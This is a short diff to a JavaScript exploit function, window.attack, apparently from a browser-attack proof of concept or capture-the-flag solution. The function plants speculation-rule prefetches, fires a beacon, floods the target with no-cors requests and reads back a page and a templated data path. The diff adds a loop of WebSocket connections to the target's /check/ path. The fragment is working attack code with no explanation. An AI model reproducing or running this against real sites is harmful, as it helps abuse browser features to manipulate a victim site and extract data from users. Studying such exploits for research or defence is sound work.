@@ -40,6 +40,9 @@ window.attack = async () => {
   rules.textContent = JSON.stringify({ prefetch: [{ urls: [site + "/check/"], eagerness: "immediate" }] });
   document.body.append(rules);
   navigator.sendBeacon(site + "/", "x");
+  for (let each = 0; each < 5; each += 1) {
+    await new Promise((done) => { new WebSocket(site.replace("http", "ws") + "/check/").onerror = done; });
+  }
   for (let each = 0; each < 100; each += 1) await ask("/", { mode: "no-cors" });
   return { page: await ask("/", {}), data: await ask("%(data)s", {}) };
 };
